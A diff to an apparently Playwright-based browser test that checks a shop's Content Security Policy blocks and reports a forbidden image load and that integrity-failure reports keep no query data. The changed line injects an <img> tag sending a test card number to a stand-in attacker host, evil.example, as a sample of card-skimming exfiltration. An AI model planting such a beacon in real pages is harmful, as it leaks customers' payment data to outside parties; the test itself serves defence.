@@ -19,7 +19,7 @@ it('a browser reports what its policy refuses, and a file with one changed byte,
   const { page } = await visit();
   await page.goto(`${shopUrl}/faq?email=meera@example.com`, { waitUntil: 'networkidle' });
   await page.evaluate(() => {
-    document.body.insertAdjacentHTML('beforeend', '<img src="https://evil.example/x.png?card=4111">');
+    document.body.insertAdjacentHTML('beforeend', '<img src="https://evil.example/x.png?card=4111111111111111">');
   });
   await expect.poll(reported).toContain('policy img-src https://evil.example /faq');
 
@@ -33,6 +33,6 @@ it('a browser reports what its policy refuses, and a file with one changed byte,
     .poll(async () => (await reported()).filter((line) => line.startsWith('integrity hash /assets/main.')))
     .toHaveLength(1);
   const rows = await readReports();
-  expect(JSON.stringify(rows)).not.toMatch(/meera|4111/);
+  expect(JSON.stringify(rows)).not.toMatch(/meera|4111111111111111/);
   await annotate(`2 refusals made, ${rows.length} kinds of report kept, none with a query`, 'figure');
 });
